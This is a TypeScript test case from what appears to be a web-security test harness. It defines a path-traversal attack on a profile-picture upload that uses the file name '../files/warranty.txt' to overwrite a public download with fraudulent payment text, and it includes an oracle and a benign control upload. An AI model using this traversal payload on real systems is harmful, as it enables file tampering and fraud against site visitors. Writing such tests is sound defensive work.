import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { attackerAccount, logIn } from '../../attack/attacker.ts'
import { upload } from '../../visitor/upload.ts'

/** Overwrites a public download by a file name with folders. */
export const uploadOverwrite: Attack = defineAttack({
  id: 'upload-overwrite',
  class: 'file-upload',
  title: 'Overwrites a public download by a file name with folders',
  cwe: 22,
  capec: 650,
  technique: 'T1565.001',
  preconditions: [attackerAccount],

  steps: async ({ visitor }) => {
    await logIn(visitor)
    const data = 'Pay to account 666 instead'
    await upload(visitor, '/account/picture', {
      field: 'picture',
      fileName: '../files/warranty.txt',
      type: 'image/png',
      data,
    })
    return visitor.get('/download?file=warranty.txt')
  },
  oracle: (answer) => answer.status === 200 && answer.text.includes('account 666'),
  twin: async ({ visitor }) => {
    await logIn(visitor)
    return upload(visitor, '/account/picture', {
      field: 'picture',
      fileName: 'me on the fell.png',
      type: 'image/png',
      data: '\u0089PNG\r\n\u001a\n plain pixels',
    })
  },
})
